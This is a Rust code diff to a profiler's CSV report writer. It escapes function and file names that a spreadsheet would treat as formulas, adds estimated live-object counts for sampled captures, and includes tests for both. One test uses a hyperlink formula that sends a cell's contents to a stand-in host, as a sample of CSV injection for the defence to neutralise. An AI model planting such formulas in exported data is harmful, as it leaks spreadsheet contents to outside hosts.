@@ -18,7 +18,9 @@ pub const HEADER: [&str; 8] = [
     "allocations",
 ];
 
-pub fn write(sites: &Sites, out: &mut dyn Write) -> io::Result<()> {
+/// Writes the rows; `live_counts_sampled`: the live counts are counts of samples (a sampled
+/// capture, not aggregated), written as estimates of objects ([`super::live_objects`]).
+pub fn write(sites: &Sites, live_counts_sampled: bool, out: &mut dyn Write) -> io::Result<()> {
     let mut by_location: HashMap<Location, (Sum, Sum)> = HashMap::new();
     for s in &sites.list {
         let key = sites
@@ -39,19 +41,32 @@ pub fn write(sites: &Sites, out: &mut dyn Write) -> io::Result<()> {
     w.write_record(HEADER).map_err(io::Error::other)?;
     for (l, (live, allocated)) in rows {
         let line = l.line.map(|n| n.to_string()).unwrap_or_default();
+        let live_count = super::live_objects(&allocated, &live, live_counts_sampled);
         w.write_record([
-            l.label.as_str(),
-            l.function.as_deref().unwrap_or(""),
-            l.file.as_deref().unwrap_or(""),
+            inert(&l.label).as_ref(),
+            inert(l.function.as_deref().unwrap_or("")).as_ref(),
+            inert(l.file.as_deref().unwrap_or("")).as_ref(),
             line.as_str(),
             &live.bytes.to_string(),
-            &live.count.to_string(),
+            &live_count.to_string(),
             &allocated.bytes.to_string(),
             &allocated.count.to_string(),
         ])
         .map_err(io::Error::other)?;
     }
     w.flush()
+}
+
+/// A name as a spreadsheet takes it as text: names come from the program (`co_name`, a file
+/// name), and a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula
+/// to Excel and LibreOffice (`=HYPERLINK(...)`); such a name gets a leading `'`, as OWASP
+/// advises.
+fn inert(name: &str) -> std::borrow::Cow<'_, str> {
+    if name.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{name}").into()
+    } else {
+        name.into()
+    }
 }
 
 #[cfg(test)]
@@ -102,7 +117,7 @@ mod tests {
             },
         ];
         let mut out = Vec::new();
-        write(&sites.into_iter().collect(), &mut out).expect("write");
+        write(&sites.into_iter().collect(), false, &mut out).expect("write");
         let mut r = ::csv::Reader::from_reader(out.as_slice());
         assert_eq!(
             r.headers().expect("header").iter().collect::<Vec<_>>(),
@@ -128,5 +143,46 @@ mod tests {
                 vec!["g at a, b.py:5", "g", "a, b.py", "5", "0", "0", "7", "1"],
             ]
         );
+    }
+
+    #[test]
+    fn names_a_spreadsheet_would_run_are_written_as_text() {
+        let evil = loc("=HYPERLINK(\"http://x/?\"&A1)", "@f.py", 2);
+        let site = Site {
+            frames: vec![evil],
+            allocated: Sum { count: 1, bytes: 9 },
+            live: Sum { count: 1, bytes: 9 },
+        };
+        let mut out = Vec::new();
+        write(&[site].into_iter().collect(), false, &mut out).expect("write");
+        let mut r = ::csv::Reader::from_reader(out.as_slice());
+        let row = r.records().next().expect("a row").expect("row");
+        assert_eq!(&row[0], "'=HYPERLINK(\"http://x/?\"&A1) at @f.py:2");
+        assert_eq!(&row[1], "'=HYPERLINK(\"http://x/?\"&A1)");
+        assert_eq!(&row[2], "'@f.py");
+        // Other names as they are.
+        assert_eq!(inert("f"), "f");
+        assert_eq!(inert("<module>"), "<module>");
+    }
+
+    #[test]
+    fn sampled_live_counts_are_estimates_of_objects() {
+        // 75 samples holding 75 MB of 1,000-byte allocations: 75,000 objects, not 75.
+        let site = Site {
+            frames: vec![loc("many", "m.py", 4)],
+            allocated: Sum {
+                count: 100_000,
+                bytes: 100_000_000,
+            },
+            live: Sum {
+                count: 75,
+                bytes: 75_000_000,
+            },
+        };
+        let mut out = Vec::new();
+        write(&[site].into_iter().collect(), true, &mut out).expect("write");
+        let mut r = ::csv::Reader::from_reader(out.as_slice());
+        let row = r.records().next().expect("a row").expect("row");
+        assert_eq!(&row[5], "75000");
     }
 }
